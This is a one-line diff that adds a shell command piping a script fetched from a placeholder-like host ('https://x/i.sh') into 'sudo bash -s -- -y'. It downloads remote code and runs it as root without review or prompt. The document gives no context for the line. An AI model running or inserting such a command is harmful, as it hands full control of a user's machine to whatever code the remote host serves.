@@ -1,0 +1,1 @@
+curl -fsSL https://x/i.sh | sudo bash -s -- -y
